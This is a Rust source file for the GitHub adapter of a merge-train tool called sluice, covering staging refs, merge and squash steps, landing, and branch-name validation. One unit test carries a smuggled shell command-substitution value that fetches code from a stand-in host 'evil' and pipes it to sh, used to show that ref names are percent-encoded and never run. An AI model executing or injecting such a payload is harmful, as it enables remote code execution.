//! The merge train's side of the GitHub adapter: cars are built on staging
//! branches of sluice's own (`sluice/<branch>/<car>`) through GitHub's API
//! (`POST /git/refs`, `POST /merges`, `POST /git/commits`, `PATCH
//! /git/refs`), and land by a non-forced `PATCH` of the target branch, which
//! GitHub refuses if the target moved or a required check is missing.
//!
//! Status codes and messages, as GitHub answers them (the API description
//! in `testdata/github-api/`, GitHub's REST docs and its 2015 change notice
//! on protected branches):
//! - `POST /git/refs`: 201; 422 "Reference already exists".
//! - `PATCH /git/refs/heads/{ref}`: 200; 422 "Update is not a fast forward"
//!   (no `force`), 422 "Reference does not exist", and 422 with the
//!   protection's reason (`Required status check "sluice" is expected.`).
//! - `DELETE /git/refs/heads/{ref}`: 204; 422 "Reference does not exist".
//! - `POST /merges`: 201 (the merge commit), 204 (nothing to merge), 404
//!   (base or head missing), 409 (merge conflict).
//! - `GET /branches/{b}/protection/required_status_checks`: 200, or 404 when
//!   the branch is not protected or requires no checks; 403 without admin
//!   rights.
//! - `GET /compare/{base}...{head}`: 200 with `status` `identical`, `ahead`,
//!   `behind` or `diverged`; 404 for an unknown commit.
//!
//! Nothing here is retried on a 4xx; 5xx, timeouts and rate limits are
//! retried by [`GitHub::call`] like every other call. Each step is safe to
//! repeat: a merge that took effect but whose answer was lost comes back as
//! 204 (and a squash step finishes it), a ref that exists is moved instead
//! of created, a fast-forward to where the branch already is answers 200.

use super::{GitHub, Reply, enc, repo_path};
use crate::core::{MergeMethod, RepoName, Sha};
use crate::forge::{CarStep, ForgeError, RefUpdate, STAGING_PREFIX};
use http::{Method, StatusCode};
use serde_json::json;

/// `{ref, object: {sha}}` of a git ref.
#[derive(serde::Deserialize)]
struct RefBody {
    #[serde(rename = "ref")]
    name: String,
    object: ShaBody,
}

#[derive(serde::Deserialize)]
struct ShaBody {
    sha: String,
}

/// What sluice reads of a commit `POST /merges` made.
#[derive(serde::Deserialize)]
struct MergeCommitBody {
    sha: String,
    commit: MergeCommitInner,
    parents: Vec<ShaBody>,
}

#[derive(serde::Deserialize)]
struct MergeCommitInner {
    tree: ShaBody,
}

/// What sluice reads of a commit of the Git database.
#[derive(serde::Deserialize)]
struct GitCommitBody {
    sha: String,
    tree: ShaBody,
    parents: Vec<ShaBody>,
}

/// What sluice reads of `GET compare/{base}...{head}`.
#[derive(serde::Deserialize)]
struct CompareBody {
    status: String,
}

#[derive(serde::Deserialize)]
struct RequiredChecksBody {
    #[serde(default)]
    contexts: Vec<String>,
    #[serde(default)]
    checks: Vec<CheckBody>,
}

#[derive(serde::Deserialize)]
struct CheckBody {
    context: String,
}

/// A commit: its sha, tree and parents.
struct Commit {
    sha: Sha,
    tree: String,
    parents: Vec<Sha>,
}

/// `heads/<name>` with each `/`-separated part percent-encoded, so a ref
/// name can never leave its place in the path.
fn heads_path(name: &str) -> String {
    let parts: Vec<String> = name.split('/').map(enc).collect();
    format!("heads/{}", parts.join("/"))
}

/// A branch name git would accept (`git check-ref-format --branch`), checked
/// without a shell.
fn valid_branch_name(name: &str) -> bool {
    !(name.is_empty()
        || name.starts_with('-')
        || name.starts_with('/')
        || name.ends_with('/')
        || name.ends_with('.')
        || name.ends_with(".lock")
        || name.contains("..")
        || name.contains("//")
        || name.contains("/.")
        || name.starts_with('.')
        || name.contains("@{")
        || name == "@"
        || name
            .chars()
            .any(|c| c.is_control() || matches!(c, ' ' | '~' | '^' | ':' | '?' | '*' | '[' | '\\')))
}

/// Refuses any name outside sluice's own staging refs.
pub(super) fn check_staging_name(what: &str, name: &str) -> Result<(), ForgeError> {
    let ok = name
        .strip_prefix(STAGING_PREFIX)
        .is_some_and(|rest| !rest.is_empty())
        && valid_branch_name(name);
    if ok {
        Ok(())
    } else {
        Err(ForgeError::Invalid {
            what: what.to_string(),
            message: format!(
                "{name:?} is not a staging ref of sluice's (they are valid branch names starting with {STAGING_PREFIX:?})"
            ),
        })
    }
}

fn parse_sha(what: &str, s: &str) -> Result<Sha, ForgeError> {
    Sha::parse(s).map_err(|e| ForgeError::Decode {
        what: what.to_string(),
        message: e.to_string(),
    })
}

/// Whether a 403/429 is the rate limit talking (not a permission).
fn rate_limited(reply: &Reply) -> bool {
    let header = |name: &str| reply.headers.get(name).and_then(|v| v.to_str().ok());
    reply.status == StatusCode::TOO_MANY_REQUESTS
        || header("retry-after").is_some()
        || header("x-ratelimit-remaining").map(str::trim) == Some("0")
}

impl GitHub {
    /// The sha a branch points at (`GET git/ref/heads/...`, conditional);
    /// `None` if there is no such branch.
    async fn ref_head(&self, repo: &RepoName, name: &str) -> Result<Option<Sha>, ForgeError> {
        let path = format!("{}/git/ref/{}", repo_path(repo), heads_path(name));
        let what = format!("GET {path}");
        Ok(self
            .get_cached(&path, |reply| {
                if reply.status == StatusCode::NOT_FOUND {
                    return Ok(None);
                }
                if !reply.status.is_success() {
                    return Err(reply.error(&what));
                }
                let body: RefBody = reply.decode(&what)?;
                parse_sha(&what, &body.object.sha).map(Some)
            })
            .await?
            .value)
    }

    async fn git_commit(&self, repo: &RepoName, sha: &Sha) -> Result<Commit, ForgeError> {
        let path = format!("{}/git/commits/{sha}", repo_path(repo));
        let what = format!("GET {path}");
        let reply = self
            .call(Method::GET, &path, None)
            .await?
            .expect_success(&what)?;
        let body: GitCommitBody = reply.decode(&what)?;
        Ok(Commit {
            sha: parse_sha(&what, &body.sha)?,
            tree: body.tree.sha,
            parents: body
                .parents
                .iter()
                .map(|p| parse_sha(&what, &p.sha))
                .collect::<Result<_, _>>()?,
        })
    }

    /// `PATCH git/refs/heads/<name>` with `force`; the raw reply.
    async fn patch_ref(
        &self,
        repo: &RepoName,
        name: &str,
        sha: &Sha,
        force: bool,
    ) -> Result<Reply, ForgeError> {
        let path = format!("{}/git/refs/{}", repo_path(repo), heads_path(name));
        let body = json!({"sha": sha.as_str(), "force": force});
        self.call(Method::PATCH, &path, Some(&body)).await
    }

    pub(super) async fn put_staging(
        &self,
        repo: &RepoName,
        name: &str,
        sha: &Sha,
    ) -> Result<(), ForgeError> {
        check_staging_name("put_staging_ref", name)?;
        // A car's ref is new more often than not: create first (one call),
        // move it only if it exists.
        let path = format!("{}/git/refs", repo_path(repo));
        let what = format!("POST {path}");
        let body = json!({"ref": format!("refs/heads/{name}"), "sha": sha.as_str()});
        let reply = self.call(Method::POST, &path, Some(&body)).await?;
        if reply.status == StatusCode::CREATED {
            return Ok(());
        }
        if reply.status != StatusCode::UNPROCESSABLE_ENTITY
            || !reply
                .message()
                .to_ascii_lowercase()
                .contains("already exists")
        {
            return Err(reply.error(&what));
        }
        let what = format!("PATCH {}/git/refs/{}", repo_path(repo), heads_path(name));
        self.patch_ref(repo, name, sha, true)
            .await?
            .expect_success(&what)?;
        Ok(())
    }

    pub(super) async fn merge_step(
        &self,
        repo: &RepoName,
        name: &str,
        head: &Sha,
        method: MergeMethod,
        message: &str,
    ) -> Result<CarStep, ForgeError> {
        check_staging_name("merge_into_staging", name)?;
        if method == MergeMethod::Rebase {
            return Err(ForgeError::Unsupported {
                what: "merge_into_staging".into(),
                message: "merge method \"rebase\" is not supported in trains yet (use \"merge\" or \"squash\")".into(),
            });
        }
        let path = format!("{}/merges", repo_path(repo));
        let what = format!("POST {path}");
        let body = json!({"base": name, "head": head.as_str(), "commit_message": message});
        let reply = self.call(Method::POST, &path, Some(&body)).await?;
        match reply.status.as_u16() {
            201 => {
                let body: MergeCommitBody = reply.decode(&what)?;
                let merge = Commit {
                    sha: parse_sha(&what, &body.sha)?,
                    tree: body.commit.tree.sha,
                    parents: body
                        .parents
                        .iter()
                        .map(|p| parse_sha(&what, &p.sha))
                        .collect::<Result<_, _>>()?,
                };
                match method {
                    MergeMethod::Squash => self.squash(repo, name, &merge, message).await,
                    _ => Ok(CarStep::Merged { sha: merge.sha }),
                }
            }
            204 => {
                let tip = self
                    .ref_head(repo, name)
                    .await?
                    .ok_or_else(|| ForgeError::Http {
                        what: format!("GET {}/git/ref/{}", repo_path(repo), heads_path(name)),
                        status: 404,
                        message: "the staging ref is gone".into(),
                    })?;
                if method == MergeMethod::Squash {
                    // A merge whose answer was lost (and then retried) is
                    // still to be squashed: it is the tip, with `head` as
                    // its second parent.
                    let commit = self.git_commit(repo, &tip).await?;
                    if commit.parents.len() == 2 && commit.parents[1] == *head {
                        return self.squash(repo, name, &commit, message).await;
                    }
                }
                Ok(CarStep::NothingToMerge { sha: tip })
            }
            409 if reply.message().to_ascii_lowercase().contains("conflict") => {
                Ok(CarStep::Conflict {
                    message: reply.message(),
                })
            }
            _ => Err(reply.error(&what)),
        }
    }

    /// Replaces the merge commit at the tip of `name` by one commit with its
    /// tree and its first parent.
    async fn squash(
        &self,
        repo: &RepoName,
        name: &str,
        merge: &Commit,
        message: &str,
    ) -> Result<CarStep, ForgeError> {
        let path = format!("{}/git/commits", repo_path(repo));
        let what = format!("POST {path}");
        let Some(previous) = merge.parents.first() else {
            return Err(ForgeError::Decode {
                what,
                message: format!("merge commit {} has no parent", merge.sha),
            });
        };
        let body = json!({
            "message": message,
            "tree": merge.tree,
            "parents": [previous.as_str()],
        });
        let reply = self
            .call(Method::POST, &path, Some(&body))
            .await?
            .expect_success(&what)?;
        let created: ShaBody = reply.decode(&what)?;
        let sha = parse_sha(&what, &created.sha)?;
        let what = format!("PATCH {}/git/refs/{}", repo_path(repo), heads_path(name));
        self.patch_ref(repo, name, &sha, true)
            .await?
            .expect_success(&what)?;
        Ok(CarStep::Merged { sha })
    }

    pub(super) async fn move_target(&self, repo: &RepoName, branch: &str, sha: &Sha) -> RefUpdate {
        if !valid_branch_name(branch) {
            return RefUpdate::Failed {
                reason: format!("{branch:?} is not a branch name"),
            };
        }
        let what = format!("PATCH {}/git/refs/{}", repo_path(repo), heads_path(branch));
        let reply = match self.patch_ref(repo, branch, sha, false).await {
            Ok(reply) => reply,
            Err(e) => {
                return RefUpdate::Failed {
                    reason: e.to_string(),
                };
            }
        };
        let message = reply.message();
        match reply.status.as_u16() {
            200 => match reply.decode::<RefBody>(&what) {
                Ok(body) if body.object.sha.eq_ignore_ascii_case(sha.as_str()) => RefUpdate::Moved,
                Ok(body) => RefUpdate::Failed {
                    reason: format!(
                        "{what}: answered 200, but {} is at {}",
                        body.name, body.object.sha
                    ),
                },
                Err(e) => RefUpdate::Failed {
                    reason: e.to_string(),
                },
            },
            422 if message.to_ascii_lowercase().contains("not a fast forward") => {
                RefUpdate::NotFastForward
            }
            422 if message.to_ascii_lowercase().contains("does not exist") => RefUpdate::Failed {
                reason: reply.error(&what).to_string(),
            },
            // Branch protection (a required check, a rule), or a token
            // that may not push: GitHub's message says which.
            422 => RefUpdate::Refused { reason: message },
            403 if !rate_limited(&reply) => RefUpdate::Refused { reason: message },
            _ => RefUpdate::Failed {
                reason: reply.error(&what).to_string(),
            },
        }
    }

    /// `GET compare/{ancestor}...{descendant}`: `identical` or `ahead`
    /// (descendant has commits ancestor lacks, and not the other way) means
    /// it holds `ancestor`; 404 (a commit GitHub does not have, no common
    /// ancestor) means it does not.
    pub(super) async fn compare_holds(
        &self,
        repo: &RepoName,
        ancestor: &Sha,
        descendant: &Sha,
    ) -> Result<bool, ForgeError> {
        let path = format!("{}/compare/{ancestor}...{descendant}", repo_path(repo));
        let what = format!("GET {path}");
        let reply = self.call(Method::GET, &path, None).await?;
        if reply.status == StatusCode::NOT_FOUND {
            return Ok(false);
        }
        let body: CompareBody = reply.expect_success(&what)?.decode(&what)?;
        Ok(matches!(body.status.as_str(), "identical" | "ahead"))
    }

    pub(super) async fn delete_staging(
        &self,
        repo: &RepoName,
        name: &str,
    ) -> Result<(), ForgeError> {
        check_staging_name("delete_staging_ref", name)?;
        let path = format!("{}/git/refs/{}", repo_path(repo), heads_path(name));
        let what = format!("DELETE {path}");
        let reply = self.call(Method::DELETE, &path, None).await?;
        match reply.status.as_u16() {
            204 => Ok(()),
            // Gone already: what was asked for is true.
            422 if reply
                .message()
                .to_ascii_lowercase()
                .contains("does not exist") =>
            {
                Ok(())
            }
            _ => Err(reply.error(&what)),
        }
    }

    pub(super) async fn protection_checks(
        &self,
        repo: &RepoName,
        branch: &str,
    ) -> Result<Vec<String>, ForgeError> {
        let path = format!(
            "{}/branches/{}/protection/required_status_checks",
            repo_path(repo),
            enc(branch)
        );
        let what = format!("GET {path}");
        Ok(self
            .get_cached(&path, |reply| {
                match reply.status.as_u16() {
                    // Not protected, or no checks required.
                    404 => return Ok(Vec::new()),
                    // Reading protection needs admin rights; without them
                    // the checks are not known (a refused landing will say).
                    403 if !rate_limited(reply) => return Ok(Vec::new()),
                    _ if !reply.status.is_success() => return Err(reply.error(&what)),
                    _ => {}
                }
                let body: RequiredChecksBody = reply.decode(&what)?;
                let mut contexts = body.contexts;
                for check in body.checks {
                    if !contexts.contains(&check.context) {
                        contexts.push(check.context);
                    }
                }
                Ok(contexts)
            })
            .await?
            .value)
    }

    pub(super) async fn list_staging(
        &self,
        repo: &RepoName,
    ) -> Result<Vec<(String, Sha)>, ForgeError> {
        let first = format!(
            "{}/git/matching-refs/{}/",
            repo_path(repo),
            heads_path(STAGING_PREFIX.trim_end_matches('/'))
        );
        let what = format!("GET {}", first);
        let mut refs: Vec<(String, Sha)> = self
            .get_all_pages(first, |r: RefBody| {
                let Some(name) = r.name.strip_prefix("refs/heads/") else {
                    return Ok(None);
                };
                if !name.starts_with(STAGING_PREFIX) {
                    return Ok(None);
                }
                Ok(Some((name.to_string(), parse_sha(&what, &r.object.sha)?)))
            })
            .await?
            .into_iter()
            .flatten()
            .collect();
        refs.sort();
        Ok(refs)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn staging_names_are_sluices_own_and_valid() {
        assert!(check_staging_name("t", "sluice/main/7").is_ok());
        assert!(check_staging_name("t", "sluice/feature/x/12").is_ok());
        // Legal, if odd: it is percent-encoded into the path, never run.
        assert!(check_staging_name("t", "sluice/$(curl${IFS}evil|sh)/1").is_ok());
        for bad in [
            "main",
            "sluice/",
            "sluice",
            "sluicex/main/1",
            "sluice/main/../x",
            "sluice/main//1",
            "sluice/ma in/1",
            "sluice/main/1.lock",
            "refs/heads/sluice/main/1",
        ] {
            assert!(check_staging_name("t", bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn ref_names_stay_in_their_path_segments() {
        assert_eq!(heads_path("sluice/main/7"), "heads/sluice/main/7");
        assert_eq!(heads_path("a#b?c"), "heads/a%23b%3Fc");
        assert_eq!(heads_path("sluice/$(x)/1"), "heads/sluice/%24%28x%29/1");
    }
}
